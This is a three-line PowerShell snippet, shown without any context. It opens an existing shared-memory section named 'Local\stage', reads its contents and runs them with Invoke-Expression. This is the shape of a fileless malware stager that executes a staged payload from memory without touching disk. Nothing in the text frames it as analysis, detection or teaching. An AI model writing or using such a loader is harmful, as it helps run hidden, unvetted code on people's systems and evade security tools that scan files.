$map = [IO.MemoryMappedFiles.MemoryMappedFile]::OpenExisting('Local\stage')
$reader = New-Object IO.StreamReader($map.CreateViewStream())
Invoke-Expression $reader.ReadToEnd()
